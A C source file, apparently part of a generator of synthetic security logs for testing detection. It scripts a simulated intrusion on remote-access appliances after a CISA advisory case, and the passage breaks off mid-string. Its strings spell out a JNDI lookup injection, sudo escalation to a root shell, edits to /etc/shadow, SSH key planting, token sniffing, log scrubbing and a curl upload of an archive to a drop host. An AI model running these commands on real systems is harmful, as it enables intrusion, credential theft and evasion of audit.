/*
 * story_appliance.c - three load-balanced appliances for remote access are entered through their login service;
 * passwords, values of second factors and tokens are collected there for the rest of the time and used from elsewhere.
 * After the second case study of AA24-190A. Requests and scripts are shapes only: nothing works.
 */
#include "story.h"

#include <stdio.h>

#define VICTIMS 3

struct appliance {
    struct story *t;
    const struct estate *e;
    uint32_t source, hop, second, drop; /* exploit; home router; where sessions are replayed; where data goes */
    const struct person *victims[VICTIMS];
    char shells[5][64]; /* below the application's path; the first three on a node each */
    int64_t written[5], used[5], changed;
    unsigned root_shell[APPLIANCES]; /* of sudo */
    char java[96], pages[128], capture[160], tokens[64], archive[64], cron[48];
    struct unix_user service, root;
};

static int64_t by_day(const struct appliance *a, double share, unsigned minutes)
{
    int64_t when = story_time(a->t, share, minutes);
    /* After the restart, so that the day's log has the service's start. */
    return when % SW_DAY < 5 * HOUR ? when + 5 * HOUR : when;
}

static unsigned node_of_shell(unsigned shell)
{
    return shell < 3 ? shell : shell - 3;
}

static bool ask(struct appliance *a, int64_t when, unsigned node, uint32_t client, const char *method, const char *uri,
                unsigned status, uint64_t sent, const char *agent)
{
    struct hit h = {.time = when,
                    .client = client,
                    .method = method,
                    .uri = uri,
                    .status = status,
                    .sent = sent,
                    .agent = agent == NULL ? ordinary_agent(client) : agent};
    return appliance_hit(a->t->s, a->t->stream, node, &h);
}

static void session(struct appliance *a, int64_t when, const struct machine *to, uint32_t client, uint64_t up,
                    uint64_t down, int64_t lasts)
{
    flow_https(a->t->s, a->t->stream, when, client, to->address, a->e->access_site, client == a->source ? 63 : 19, up,
               down, lasts);
}

/* A command of the service's Java; its shell's number comes back. */
static unsigned run(struct appliance *a, int64_t when, unsigned node, const char *command)
{
    const struct machine *on = &a->e->appliance[node];
    return audit_shell(a->t->s, a->t->stream, when, on, &a->service, appliance_java(on, when), command,
                       a->e->access_root);
}

static void command(struct appliance *a, int64_t when, unsigned shell, uint32_t client, const char *text)
{
    char uri[160];
    unsigned node = node_of_shell(shell);
    struct chance *c = &a->t->stream->chance;
    (void)snprintf(uri, sizeof uri, "/%s/%s", a->e->access_app, a->shells[shell]);
    ask(a, when, node, client, "POST", uri, 200, (uint64_t)chance_scaled(c, 1500, 2), NULL);
    a->used[shell] = when;
    if (text != NULL)
        run(a, when + 90000000, node, text);
}

static void as_root(struct appliance *a, int64_t when, unsigned node, const char *exe, const char *const *arguments)
{
    audit_exec(a->t->s, a->t->stream, when, &a->e->appliance[node], &a->root, a->root_shell[node], exe, arguments,
               "/root");
}

/* Somebody whose days are known: at work then, not on a journey. */
static int64_t settled(const struct appliance *a, const struct person *p, double share, double hour)
{
    int64_t day = story_time(a->t, share, 0);
    for (unsigned i = 0; i < 9; i++, day += SW_DAY) {
        int64_t when = local_hour(p->zone, day, hour);
        uint32_t address;
        const struct place *place;
        if (when < a->t->s->end - SW_DAY && is_working_day(p->zone, when) && !is_away(p, when) &&
            !is_under_way(p, when) && where_is(p, when, &address, &place) != WHERE_TRAVEL)
            return when;
    }
    return story_time(a->t, share, 0);
}

static void choose_people(struct appliance *a, struct chance *c)
{
    const struct world *w = a->t->s->world;
    unsigned start = chance_below(c, w->person_count);
    unsigned n = 0;
    for (unsigned pass = 0; pass < 2; pass++)
        for (unsigned i = 0; i < w->person_count && n < VICTIMS; i++) {
            const struct person *p = &w->people[(start + i) % w->person_count];
            bool taken = p->admin || is_dormant(p) || p->from > w->start || p->until < w->end ||
                         (pass == 0) != (p->zone == ZONE_HEADQUARTERS);
            if (!taken)
                a->victims[n++] = p;
        }
    for (; n < VICTIMS; n++)
        a->victims[n] = &w->people[n];
}

static void choose(struct appliance *a)
{
    static const char *const names[] = {"status", "error", "css", "help", "keepalive", "ping", "assets", "compat"};
    static const char *const captures[] = {"fonts/icons.dat", "assets/theme.css.bak", "images/pixel.dat"};
    static const char *const caches[] = {"/var/tmp/.fontcache", "/var/tmp/.systemd-private", "/tmp/.X25-lock"};
    static const char *const archives[] = {"/var/tmp/.cache.tgz", "/tmp/.build.tgz", "/var/tmp/dump.tgz"};
    struct chance *c = &a->t->stream->chance;
    const struct estate *e = a->e;
    a->source = hosting_address(chance_next(c));
    a->hop = residential_address(chance_next(c));
    a->second = residential_address(chance_next(c));
    a->drop = hosting_address(chance_next(c));
    unsigned at = chance_below(c, COUNT(names));
    for (unsigned i = 0; i < COUNT(a->shells); i++)
        (void)snprintf(a->shells[i], sizeof a->shells[i], "%s%s.jsp", i % 2 == 0 ? "" : "assets/",
                       names[(at + i) % COUNT(names)]);
    (void)snprintf(a->java, sizeof a->java, "%.*s/jre/bin/java", (int)(strrchr(e->access_root, '/') - e->access_root),
                   e->access_root);
    (void)snprintf(a->pages, sizeof a->pages, "%s/webapps/%s", e->access_root, e->access_app);
    (void)snprintf(a->capture, sizeof a->capture, "%s/%s", a->pages, CHANCE_OF(c, captures));
    (void)snprintf(a->tokens, sizeof a->tokens, "%s", CHANCE_OF(c, caches));
    (void)snprintf(a->archive, sizeof a->archive, "%s", CHANCE_OF(c, archives));
    (void)snprintf(a->cron, sizeof a->cron, "/etc/cron.d/%s", chance_is(c, 0.5) ? "sysstat-check" : "certsync");
    a->service = (struct unix_user){e->access_user, 998, NULL};
    a->root = (struct unix_user){"root", 0, NULL};
    choose_people(a, c);
}

/* --- entering ------------------------------------------------------------------------------------------------------
 */

static void enter(struct appliance *a)
{
    struct chance *c = &a->t->stream->chance;
    const struct estate *e = a->e;
    char uri[200];
    char text[16];
    story_step(a->t, "first-contact", TACTIC_RECONNAISSANCE,
               "A hosted address looks at the login page of each node and for a version.");
    int64_t when = by_day(a, 0.04, 5);
    for (unsigned i = 0; i < 9; i++, when += chance_from(c, 1, 30) * SW_SECOND) {
        (void)snprintf(uri, sizeof uri,
                       i % 3 == 0   ? "/%s/login"
                       : i % 3 == 1 ? "/%s/version.json"
                                    : "/%s/api/health",
                       e->access_app);
        ask(a, when, i / 3, a->source, "GET", uri, i % 3 == 0 ? 200 : 404, i % 3 == 0 ? 8123 : 682,
            "Mozilla/5.0 (Windows NT 10.0)");
    }
    story_external(a->t, a->source, "exploit, first commands");
    story_step(a->t, "exploit", TACTIC_INITIAL_ACCESS,
               "A request to the login service holds a lookup; each node asks the sender's directory for it.");
    when = by_day(a, 0.07, 9);
    (void)snprintf(uri, sizeof uri, "/%s/login?locale=$%%7Bjndi:ldap://%s:1389/inert%%7D", e->access_app,
                   address_text(a->source, text));
    for (unsigned node = 0; node < APPLIANCES; node++, when += chance_from(c, 90, 400) * SW_SECOND) {
        session(a, when - SW_SECOND, &e->appliance[node], a->source, 1900, 5200, 20 * SW_SECOND);
        ask(a, when, node, a->source, "GET", uri, 500, 0, "Mozilla/5.0 (Windows NT 10.0)");
        flow_tcp(a->t->s, a->t->stream, when + 200000000, e->appliance[node].address, a->source, 1389, "ldap", NULL,
                 210, 640, 2 * SW_SECOND);
        run(a, when + 2 * SW_SECOND, node, "id; uname -a; hostname");
        story_entry(a->t, e->appliance[node].name, "web-request", when, "GET /%s/login", e->access_app);
    }
}

/* The class of a page, as Tomcat names it. */
static void class_of(const struct appliance *a, unsigned shell, char folder[32], char name[64])
{
    const char *slash = strrchr(a->shells[shell], '/');
    const char *base = slash == NULL ? a->shells[shell] : slash + 1;
    (void)snprintf(folder, 32, "%.*s", slash == NULL ? 0 : (int)(slash + 1 - a->shells[shell]), a->shells[shell]);
    (void)snprintf(name, 64, "%.*s", (int)(strlen(base) - 4), base);
}

/* The page, and what Tomcat makes of it when it is first asked for. */
static void write_shell(struct appliance *a, int64_t when, unsigned shell)
{
    const struct estate *e = a->e;
    unsigned node = node_of_shell(shell);
    const struct machine *on = &e->appliance[node];
    char path[256];
    char folder[32];
    char name[64];
    class_of(a, shell, folder, name);
    unsigned java = appliance_java(on, when);
    (void)snprintf(path, sizeof path, "%s/%s", a->pages, a->shells[shell]);
    audit_file(a->t->s, a->t->stream, when, on, &a->service, java, a->java, path, "CREATE");
    static const char *const parts[] = {"_jsp.java", "_jsp.class", "_jsp$ProxyEndpoint.class"};
    for (unsigned i = 0; i < COUNT(parts) - (shell % 2 == 0); i++) {
        (void)snprintf(path, sizeof path, "%s/work/Catalina/localhost/%s/org/apache/jsp/%s%s%s", e->access_root,
                       e->access_app, folder, name, parts[i]);
        audit_file(a->t->s, a->t->stream, when + (40 + i) * SW_SECOND, on, &a->service, java, a->java, path, "CREATE");
    }
    (void)snprintf(path, sizeof path, "/%s/%s", e->access_app, a->shells[shell]);
    ask(a, when + 40 * SW_SECOND, node, a->source, "GET", path, 200, 0, "Mozilla/5.0 (Windows NT 10.0)");
    a->written[shell] = when, a->used[shell] = when + 40 * SW_SECOND;
}

static void settle_in(struct appliance *a)
{
    static const char *const commands[] = {"id",          "cat /etc/passwd", "ss -tlnp", "ps aux",
                                           "ls -la /opt", "cat /etc/hosts",  "ip addr"};
    struct chance *c = &a->t->stream->chance;
    story_step(a->t, "web-shells", TACTIC_PERSISTENCE, "Pages are written on all three nodes; Tomcat compiles them.");
    int64_t when = by_day(a, 0.09, 7);
    for (unsigned node = 0; node < APPLIANCES; node++, when += chance_from(c, 200, 900) * SW_SECOND)
        write_shell(a, when, node);
    story_external(a->t, a->hop, "hacked home router: commands, downloads");
    story_step(a->t, "commands", TACTIC_EXECUTION,
               "Commands through the pages, by the hosted address and the home router.");
    for (unsigned i = 0; i < 12; i++, when += chance_from(c, 10, 300) * SW_SECOND)
        command(a, when, i % 3, i % 4 == 0 ? a->source : a->hop, commands[i % COUNT(commands)]);
    session(a, when - 20 * MINUTE, &a->e->appliance[0], a->hop, 21000, 98000, 21 * MINUTE);
}

/* --- credentials ---------------------------------------------------------------------------------------------------
 */

static void become_root(struct appliance *a)
{
    struct scenario *s = a->t->s;
    struct stream *stream = a->t->stream;
    const struct estate *e = a->e;
    static const char *const sudo[] = {"sudo", "/opt/bin/certproxy", "--exec", "/bin/bash", NULL};
    static const char *const sed[] = {"sed", "-i", "s/^sshuser:[^:]*/sshuser:x-inert/", "/etc/shadow", NULL};
    story_step(a->t, "root", TACTIC_PRIVILEGE_ESCALATION,
               "The service's account may run one program as root, which can be talked into more.");
    int64_t when = by_day(a, 0.12, 3);
    int64_t changed[2] = {0, 0};
    for (unsigned i = 0; i < 2; i++) {
        unsigned node = i * 2;
        command(a, when + i * 11 * MINUTE, node, a->hop, "sudo -l");
        const struct machine *on = &e->appliance[node];
        int64_t at = when + i * 11 * MINUTE + 30 * SW_SECOND;
        unsigned pid =
            audit_exec(s, stream, at, on, &a->service, appliance_java(on, at), "/usr/bin/sudo", sudo, e->access_root);
        a->root_shell[node] = audit_exec(s, stream, at + 30000000, on, &a->root, pid, "/usr/bin/bash", sudo + 3, "/");
    }
    story_step(a->t, "passwords-changed", TACTIC_PERSISTENCE,
               "shadow and opasswd change on the first and third node; sshuser has another password.");
    when += 25 * MINUTE;
    for (unsigned i = 0; i < 2; i++, when += 9 * MINUTE) {
        const struct machine *on = &e->appliance[i * 2];
        as_root(a, when, i * 2, "/usr/bin/sed", sed);
        audit_file(s, stream, when + SW_SECOND, on, &a->root, 30190, "/usr/bin/sed", "/etc/shadow", "CREATE");
        audit_file(s, stream, when + 2 * SW_SECOND, on, &a->root, 30191, "/usr/bin/bash", "/etc/security/opasswd",
                   "CREATE");
        audit_user(s, stream, when + 3 * SW_SECOND, on, "USER_CHAUTHTOK", "PAM:chauthtok", "sshuser",
                   "/usr/sbin/chpasswd", 0, true);
        syslog_line(s, stream, when + 3 * SW_SECOND, on->name, "chpasswd", 30192,
                    "pam_unix(chpasswd:chauthtok): password changed for sshuser");
        changed[i] = when;
    }
    a->changed = changed[0];
    story_account(a->t, "sshuser", false, e->appliance[0].name, "password changed");
    story_way_back(a->t, "account", e->appliance[2].name, "active", changed[1], changed[1], "sshuser");
}

static void capture(struct appliance *a)
{
    struct scenario *s = a->t->s;
    struct stream *stream = a->t->stream;
    const struct machine *on = &a->e->appliance[1];
    char path[200];
    story_step(a->t, "login-changed", TACTIC_CREDENTIAL_ACCESS,
               "The login page of the second node is changed, and a file below the pages begins to grow.");
    int64_t when = by_day(a, 0.1, 31);
    (void)snprintf(path, sizeof path, "%s/login.jsp", a->pages);
    unsigned shell = run(a, when, 1, "cp /tmp/.l login.jsp");
    audit_file(s, stream, when + SW_SECOND, on, &a->service, shell, "/usr/bin/cp", path, "CREATE");
    audit_file(s, stream, when + 40 * MINUTE, on, &a->service, appliance_java(on, when), a->java, a->capture, "CREATE");
    story_step(a->t, "capture-read", TACTIC_COLLECTION,
               "The file of names and passwords is fetched, month after month.");
    for (unsigned i = 0; i < 4; i++) {
        char uri[160];
        when = by_day(a, 0.2 + 0.2 * i, 41);
        (void)snprintf(uri, sizeof uri, "/%s/%s", a->e->access_app, a->capture + strlen(a->pages) + 1);
        ask(a, when, 1, a->hop, "GET", uri, 200, 9000 + 8100 * i, NULL);
    }
}

static void reboot(struct appliance *a)
{
    struct scenario *s = a->t->s;
    struct stream *stream = a->t->stream;
    static const char *const arguments[] = {"shutdown", "-r", "now", NULL};
    story_step(a->t, "shut-down", TACTIC_DEFENSE_EVASION,
               "The second and later the third node are shut down and start again.");
    for (unsigned i = 0; i < 2; i++) {
        const struct machine *on = &a->e->appliance[1 + i];
        int64_t when = by_day(a, 0.15 + 0.05 * i, 51);
        unsigned shell = run(a, when, 1 + i, "shutdown -r now");
        audit_exec(s, stream, when + 200000000, on, &a->service, shell, "/usr/sbin/shutdown", arguments, "/");
        syslog_line(s, stream, when + SW_SECOND, on->name, "systemd-logind", 611, "System is powering down.");
        audit_user(s, stream, when + 2 * SW_SECOND, on, "SYSTEM_SHUTDOWN", "shutdown", "root",
                   "/usr/lib/systemd/systemd-update-utmp", 0, true);
        audit_user(s, stream, when + 140 * SW_SECOND, on, "SYSTEM_BOOT", "boot", "root",
                   "/usr/lib/systemd/systemd-update-utmp", 0, true);
    }
}

/* --- the segment ---------------------------------------------------------------------------------------------------
 */

static void look_at_segment(struct appliance *a)
{
    struct scenario *s = a->t->s;
    struct chance *c = &a->t->stream->chance;
    const struct estate *e = a->e;
    const struct world *w = s->world;
    static const char *const nmap[] = {"nmap",         "-sT", "-Pn", "-n", "-p", "22,80,443,445,1433,3389",
                                       "10.20.5.0/24", NULL};
    static const char *const tcpdump[] = {"tcpdump",       "-i", "eth0", "-s0", "-w", "/var/tmp/.c.pcap",
                                          "tcp port 8080", NULL};
    static const uint16_t ports[] = {22, 80, 443, 445, 1433, 3389};
    const struct machine *from = &e->appliance[2];
    story_step(a->t, "scan", TACTIC_DISCOVERY, "nmap from the third node over its segment.");
    int64_t when = by_day(a, 0.17, 11);
    command(a, when, 2, a->hop, NULL);
    as_root(a, when + SW_SECOND, 2, "/usr/bin/nmap", nmap);
    const struct machine targets[] = {e->app1,
                                      e->app2,
                                      e->files,
                                      e->building,
                                      machine_of(s, the(w, ROLE_WEB1), when),
                                      machine_of(s, the(w, ROLE_WEB2), when),
                                      machine_of(s, the(w, ROLE_VPN), when),
                                      machine_of(s, the(w, ROLE_RELAY), when)};
    for (unsigned i = 0; i < 90; i++, when += chance_below(c, 900) * 1000000ll) {
        uint32_t to =
            i < COUNT(targets) * COUNT(ports) ? targets[i / COUNT(ports)].address : ADDRESS(10, 20, 5, 26) + i % 14;
        flow_tcp(s, a->t->stream, when + 2 * SW_SECOND, from->address, to, ports[i % COUNT(ports)], NULL,
                 i % 7 == 2   ? "RSTO"
                 : i % 2 == 0 ? "REJ"
                              : "S0",
                 0, 0, 1000000);
    }
    for (unsigned i = 0; i < COUNT(targets); i++)
        story_host(a->t, &targets[i], "target");
    story_step(a->t, "sniffing", TACTIC_CREDENTIAL_ACCESS, "tcpdump on the third node, towards a file.");
    when = by_day(a, 0.19, 31);
    as_root(a, when, 2, "/usr/sbin/tcpdump", tcpdump);
    syslog_line(s, a->t->stream, when + 100000000, from->name, "kernel", 0,
                "[1823311.204113] device eth0 entered promiscuous mode");
    audit_file(s, a->t->stream, when + 200000000, from, &a->root, 30188, "/usr/sbin/tcpdump", "/var/tmp/.c.pcap",
               "CREATE");
}

static void guess_ssh(struct appliance *a)
{
    struct scenario *s = a->t->s;
    struct stream *stream = a->t->stream;
    struct chance *c = &stream->chance;
    const struct machine *from = &a->e->appliance[2];
    const struct machine *to = &a->e->appliance[0];
    struct ssh_detail ssh = {.client = "SSH-2.0-libssh_0.9.6", .server = "SSH-2.0-OpenSSH_8.0", .attempts = 6};
    story_step(a->t, "ssh-guessing", TACTIC_LATERAL_MOVEMENT,
               "SSH of the first node is guessed at from the third, until sshuser gets in.");
    int64_t when = by_day(a, 0.22, 13);
    for (unsigned i = 0, n = chance_from(c, 130, 210); i < n; i++, when += chance_from(c, 800, 6000) * 1000000ll) {
        ssh_login(s, stream, when, to->name,
                  i % 3 == 0   ? "root"
                  : i % 3 == 1 ? "sshuser"
                               : "?admin",
                  from->address, "password", false);
        if (i % 6 == 0) {
            struct flow flow = {.start = when - SW_SECOND,
                                .duration = 9 * SW_SECOND,
                                .client = from->address,
                                .server = to->address,
                                .server_port = 22,
                                .protocol = PROTOCOL_TCP,
                                .service = "ssh",
                                .sent = 3100,
                                .received = 2900,
                                .ssh = &ssh};
            flow_emit(s, stream, &flow);
        }
    }
    ssh_login(s, stream, when, to->name, "sshuser", from->address, "password", true);
    audit_user(s, stream, when + 50000000, to, "USER_LOGIN", "login", "sshuser", "/usr/sbin/sshd", from->address, true);
    story_way_back(a->t, "account", to->name, "active", a->changed, when, "sshuser");
    story_step(a->t, "ssh-key", TACTIC_PERSISTENCE, "A line is added to the keys of sshuser.");
    struct unix_user user = {"sshuser", 1001, "sshuser"};
    unsigned shell = audit_shell(
        s, stream, when + 90 * SW_SECOND, to, &user, 30210,
        "echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIInertInertInert ops@build >> /home/sshuser/.ssh/authorized_keys",
        "/home/sshuser");
    audit_file(s, stream, when + 90 * SW_SECOND + 20000000, to, &user, shell, "/usr/bin/dash",
               "/home/sshuser/.ssh/authorized_keys", "CREATE");
    story_step(a->t, "key-used", TACTIC_LATERAL_MOVEMENT, "The key opens the first node from the gateway.");
    int64_t used = by_day(a, 0.66, 20);
    ssh_login(s, stream, used, to->name, "sshuser", a->e->gateway.address, "publickey", true);
    story_way_back(a->t, "ssh-key", to->name, "active", when + 90 * SW_SECOND, used,
                   "/home/sshuser/.ssh/authorized_keys ops@build");
}

/* --- use of what was collected -------------------------------------------------------------------------------------
 */

static void take_tokens(struct appliance *a)
{
    const struct estate *e = a->e;
    char line[200];
    story_step(a->t, "tokens", TACTIC_CREDENTIAL_ACCESS,
               "Tokens are taken out of what was recorded, into a file on the third and later the first node.");
    for (unsigned i = 0; i < 2; i++) {
        unsigned node = i == 0 ? 2 : 0;
        int64_t when = by_day(a, 0.25 + 0.12 * i, 17);
        (void)snprintf(line, sizeof line, "strings /var/tmp/.c.pcap | grep -o 'eyJ[A-Za-z0-9_.-]*' >> %s", a->tokens);
        command(a, when, node, a->hop, line);
        audit_file(a->t->s, a->t->stream, when + 400000000, &e->appliance[node], &a->service, 30301, "/usr/bin/dash",
                   a->tokens, "CREATE");
    }
}

static void more_shells(struct appliance *a)
{
    story_step(a->t, "more-shells", TACTIC_PERSISTENCE, "More pages on the first and the second node.");
    write_shell(a, by_day(a, 0.36, 5), 3);
    write_shell(a, by_day(a, 0.52, 5), 4);
    command(a, by_day(a, 0.52, 15), 4, a->hop, "ls -la /opt");
}

static void replay(struct appliance *a)
{
    struct scenario *s = a->t->s;
    struct stream *stream = a->t->stream;
    char uri[96];
    story_external(a->t, a->second, "stolen sessions and second factors are used from here");
    story_step(a->t, "second-factor-replayed", TACTIC_INITIAL_ACCESS,
               "A captured password and second factor open the VPN from another network.");
    for (unsigned i = 0; i < 2; i++) {
        const struct person *p = a->victims[i];
        int64_t when = settled(a, p, 0.4 + 0.25 * i, 14.2);
        vpn_login(s, stream, when, p->login, a->second, &places[PLACE_FAR + 1], true);
        vpn_down(s, stream, when + 50 * MINUTE, p->login, a->second, 50 * MINUTE, 4100000, 39000000);
        (void)snprintf(uri, sizeof uri, "/%s/login", a->e->access_app);
        ask(a, when - 5 * MINUTE, 1, a->second, "POST", uri, 302, 0, NULL);
        syslog_line(s, stream, when - 5 * MINUTE, a->e->appliance[1].name, "sso", 1201,
                    "login user=%s client=%u.%u.%u.%u mfa=totp result=success", p->login, a->second >> 24,
                    a->second >> 16 & 255, a->second >> 8 & 255, a->second & 255);
        story_account(a->t, p->login, true, NULL, "captured");
        story_way_back(a->t, "account", a->e->appliance[1].name, "active", when - 5 * MINUTE, when, "%s", p->login);
    }
    story_step(a->t, "session-stolen", TACTIC_CREDENTIAL_ACCESS,
               "A session of Entra ID is used by its owner and, in turns, from another network.");
    const struct person *p = a->victims[2];
    uint64_t number = chance_next(&stream->chance) | 1;
    int64_t when = settled(a, p, 0.47, 13.5);
    struct sign_in own = {
        .time = when - 20 * MINUTE, .person = p, .application = "Office 365 Exchange Online", .session = number};
    (void)where_is(p, own.time, &own.address, &own.place);
    struct sign_in in = {.time = when,
                         .person = p,
                         .address = a->second,
                         .place = &places[PLACE_FAR + 1],
                         .application = "SharePoint Online",
                         .session = number,
                         .new_device = true,
                         .agent = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"};
    entra_sign_in(s, stream, &own);
    for (unsigned i = 0; i < 5; i++, in.time += 8 * MINUTE)
        entra_sign_in(s, stream, &in);
    own.time = in.time;
    entra_sign_in(s, stream, &own);
    story_account(a->t, p->login, true, NULL, "session stolen");
    story_way_back(a->t, "session", a->e->appliance[2].name, "unknown", when, in.time - 8 * MINUTE, "%s@example.org",
                   p->login);
}

static void read_database(struct appliance *a)
{
    struct scenario *s = a->t->s;
    struct stream *stream = a->t->stream;
    struct chance *c = &stream->chance;
    const struct estate *e = a->e;
    char uri[96];
    story_step(a->t, "gateway", TACTIC_LATERAL_MOVEMENT,
               "The gateway is reached by SSH from the first node, and talks to the known addresses.");
    int64_t when = by_day(a, 0.55, 5);
    ssh_login(s, stream, when, e->gateway.name, "sshuser", e->appliance[0].address, "password", true);
    flow_tcp(s, stream, when, e->appliance[0].address, e->gateway.address, 22, "ssh", NULL, 90000, 210000, 40 * MINUTE);
    struct unix_user user = {"sshuser", 1001, "sshuser"};
    audit_shell(s, stream, when + 60 * SW_SECOND, &e->gateway, &user, 30400, "ss -tnp; cat /etc/hosts",
                "/home/sshuser");
    for (unsigned i = 0; i < 14; i++, when += chance_from(c, 60, 2000) * SW_SECOND) {
        (void)snprintf(uri, sizeof uri, "/%s/api/session", e->access_app);
        ask(a, when, APPLIANCES, i % 2 == 0 ? a->hop : a->second, "GET", uri, 200, 2100 + chance_below(c, 900), NULL);
    }
    story_step(a->t, "database-read", TACTIC_COLLECTION,
               "A database server inside is read from the gateway with a captured account, four times.");
    for (unsigned i = 0; i < 4; i++) {
        when = by_day(a, 0.57 + 0.06 * i, 25);
        windows_logon(s, stream, when, e->database.name, a->victims[0]->login, LOGON_NETWORK, NULL, e->gateway.address,
                      NULL);
        flow_tcp(s, stream, when + SW_SECOND, e->gateway.address, e->database.address, 1433, NULL, NULL, 400000,
                 60000000 + chance_below(c, 120000000), 22 * MINUTE);
    }
}

static void hide(struct appliance *a)
{
    struct scenario *s = a->t->s;
    struct stream *stream = a->t->stream;
    char line[240];
    char log[128];
    char text[16];
    story_step(a->t, "logs-edited", TACTIC_DEFENSE_EVASION, "Lines are cut out of the first node's logs.");
    int64_t when = by_day(a, 0.62, 35);
    (void)snprintf(log, sizeof log, "%s/logs/access.log", a->e->access_root);
    (void)snprintf(line, sizeof line, "/%s/d", address_text(a->source, text));
    const char *const access[] = {"sed", "-i", line, log, NULL};
    const char *const secure[] = {"sed", "-i", "/sshuser/d", "/var/log/auth.log", NULL};
    as_root(a, when, 0, "/usr/bin/sed", access);
    as_root(a, when + 20 * SW_SECOND, 0, "/usr/bin/sed", secure);
    audit_file(s, stream, when + 21 * SW_SECOND, &a->e->appliance[0], &a->root, 30501, "/usr/bin/sed",
               "/var/log/auth.log", "DELETE");
    story_step(a->t, "shell-removed", TACTIC_DEFENSE_EVASION,
               "The page of the third node is removed; Tomcat's class of it stays.");
    when = by_day(a, 0.64, 15);
    char path[200];
    (void)snprintf(path, sizeof path, "%s/%s", a->pages, a->shells[2]);
    (void)snprintf(line, sizeof line, "rm -f %s", path);
    command(a, when, 2, a->hop, line);
    audit_file(s, stream, when + SW_SECOND, &a->e->appliance[2], &a->service, 30502, "/usr/bin/rm", path, "DELETE");
    story_step(a->t, "cron", TACTIC_PERSISTENCE, "A job of the second node writes its page again each night.");
    when = by_day(a, 0.68, 25);
    audit_file(s, stream, when, &a->e->appliance[1], &a->root, 30503, "/usr/bin/cp", a->cron, "CREATE");
    int64_t last = when;
    for (int64_t night = when / SW_DAY * SW_DAY + SW_DAY + 190 * MINUTE; night < s->end;
         night += SW_DAY, last = night - SW_DAY)
        audit_shell(s, stream, night, &a->e->appliance[1], &a->root, 812,
                    "test -f /var/tmp/.p && cp /var/tmp/.p /opt/page", "/root");
    story_way_back(a->t, "scheduled-task", a->e->appliance[1].name, "active", when, last, "%s", a->cron);
}

static void take_data(struct appliance *a)
{
    struct scenario *s = a->t->s;
    struct stream *stream = a->t->stream;
    struct chance *c = &stream->chance;
    const struct machine *on = &a->e->appliance[0];
    char text[16];
    char line[200];
    char url[64];
    const char *const tar[] = {"tar", "czf", a->archive, "/var/tmp/.d", "/etc/shadow", NULL};
    (void)snprintf(url, sizeof url, "https://%s/up", address_text(a->drop, text));
    const char *const curl[] = {"curl", "-sk", "-T", a->archive, url, NULL};
    story_step(a->t, "archive", TACTIC_COLLECTION, "What was read is packed on the first node.");
    int64_t when = by_day(a, 0.76, 15);
    as_root(a, when, 0, "/usr/bin/tar", tar);
    audit_file(s, stream, when + 2 * SW_SECOND, on, &a->root, 30601, "/usr/bin/tar", a->archive, "CREATE");
    story_step(a->t, "data-out", TACTIC_EXFILTRATION, "The archive is sent to a hosted address, in three nights.");
    uint64_t all = 0;
    int64_t first = 0;
    int64_t last = 0;
    for (unsigned i = 0; i < 3; i++) {
        when = by_day(a, 0.78 + 0.05 * i, 45);
        as_root(a, when, 0, "/usr/bin/curl", curl);
        uint64_t bytes = 60000000 + chance_below(c, 150000000);
        flow_https(s, stream, when + SW_SECOND, on->address, a->drop, NULL, 73, bytes, 41000, 8 * MINUTE);
        all += bytes;
        first = i == 0 ? when + SW_SECOND : first;
        last = when + 8 * MINUTE;
    }
    story_external(a->t, a->drop, "data");
    story_data_out(a->t, address_text(a->drop, text), all, first, last);
    story_step(a->t, "data-out-web", TACTIC_EXFILTRATION, "Another archive is fetched from the second node's pages.");
    when = by_day(a, 0.85, 15);
    uint64_t size = 30000000 + chance_below(c, 60000000);
    (void)snprintf(line, sizeof line, "/%s/images/bg.tgz", a->e->access_app);
    ask(a, when, 1, a->hop, "GET", line, 200, size, NULL);
    session(a, when - SW_SECOND, &a->e->appliance[1], a->hop, 5000, size + size / 300, 6 * MINUTE);
    story_data_out(a->t, address_text(a->hop, text), size, when, when + 6 * MINUTE);
}

static void return_often(struct appliance *a)
{
    static const char *const commands[] = {"id", "w", "ls -la /var/tmp", "ps aux"};
    story_step(a->t, "returns", TACTIC_COMMAND_AND_CONTROL, "The pages are used now and then, to the end.");
    for (unsigned i = 0; i < 8; i++) {
        unsigned shell = i % 4 == 2 ? 4 : i % 4; /* not the one that was removed */
        int64_t when = by_day(a, 0.88 + 0.013 * i, 25);
        command(a, when, shell, a->hop, commands[i % COUNT(commands)]);
        session(a, when - SW_SECOND, &a->e->appliance[node_of_shell(shell)], a->hop, 2100, 8000, MINUTE);
    }
    for (unsigned i = 0; i < COUNT(a->shells); i++)
        story_way_back(a->t, "web-shell", a->e->appliance[node_of_shell(i)].name, i == 2 ? "removed" : "active",
                       a->written[i], a->used[i], "/%s/%s", a->e->access_app, a->shells[i]);
}

/* --- files ---------------------------------------------------------------------------------------------------------
 */

/* A class without a method, whose superclass is java/lang/Object. */
static void write_class(struct appliance *a, unsigned node, const char *path, const char *folder, const char *name)
{
    static const unsigned char head[] = {0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 5, 7, 0, 2, 1, 0};
    static const char object[] = "java/lang/Object";
    static const unsigned char tail[] = {0, 0x21, 0, 1, 0, 3, 0, 0, 0, 0, 0, 0, 0, 0};
    struct sw_buf out;
    char whole[128];
    char file[640];
    (void)snprintf(whole, sizeof whole, "org/apache/jsp/%s%s_jsp", folder, name);
    sw_buf_init(&out, 4096);
    sw_buf_add(&out, (const char *)head, sizeof head);
    sw_buf_char(&out, (char)strlen(whole));
    sw_buf_text(&out, whole);
    sw_buf_add(&out, "\x07\0\x04\x01\0\x10", 6);
    sw_buf_text(&out, object);
    sw_buf_add(&out, (const char *)tail, sizeof tail);
    (void)snprintf(file, sizeof file, "%s%s_jsp.class", path, name);
    webroot_bytes(a->t->s, &a->e->appliance[node], file, out.data, out.len);
    sw_buf_fini(&out);
}

static void leave_files(struct appliance *a)
{
    const struct estate *e = a->e;
    struct sw_buf pairs;
    char path[512];
    char folder[32];
    char name[64];
    for (unsigned i = 0; i < COUNT(a->shells); i++) {
        unsigned node = node_of_shell(i);
        class_of(a, i, folder, name);
        (void)snprintf(path, sizeof path, "%s/work/Catalina/localhost/%s/org/apache/jsp/%s", e->access_root + 1,
                       e->access_app, folder);
        write_class(a, node, path, folder, name);
        if (i == 2)
            continue;
        (void)snprintf(path, sizeof path, "%s/%s", a->pages + 1, a->shells[i]);
        webroot_file(a->t->s, &e->appliance[node], path,
                     i % 2 == 0 ? "<% if (true) return; /* an inert example, made for a test of detection */\n"
